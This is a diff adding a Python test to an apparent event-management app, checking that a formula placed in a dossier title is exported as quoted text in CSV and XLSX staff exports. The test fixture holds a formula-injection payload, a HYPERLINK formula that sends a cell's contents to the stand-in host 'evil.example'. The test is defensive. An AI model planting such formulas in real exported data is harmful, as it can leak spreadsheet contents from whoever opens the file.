@@ -469,6 +469,28 @@ class TestStaffList:
         assert sheet["A2"].value == one.reference
         assert sheet["N2"].value == 12000
 
+    def test_a_formula_in_a_title_is_exported_as_text(self, staff, edition):
+        hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'
+        complete_dossier(attendee(edition), title=hostile)
+        rows = list(
+            csv.reader(
+                io.StringIO(
+                    staff.get("/gestion/dossiers/export.csv?edition=2025").content.decode(
+                        "utf-8-sig"
+                    )
+                ),
+                delimiter=";",
+            )
+        )
+        assert rows[1][rows[0].index("Titre")] == "'" + hostile
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(
+            io.BytesIO(staff.get("/gestion/dossiers/export.xlsx?edition=2025").content)
+        ).active
+        title = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("Titre") + 1)
+        assert title.data_type == "s" and title.value == "'" + hostile
+
     @pytest.mark.parametrize(
         "persona", ["anonymous", "resident", "organiser", "committee", "agent"]
     )
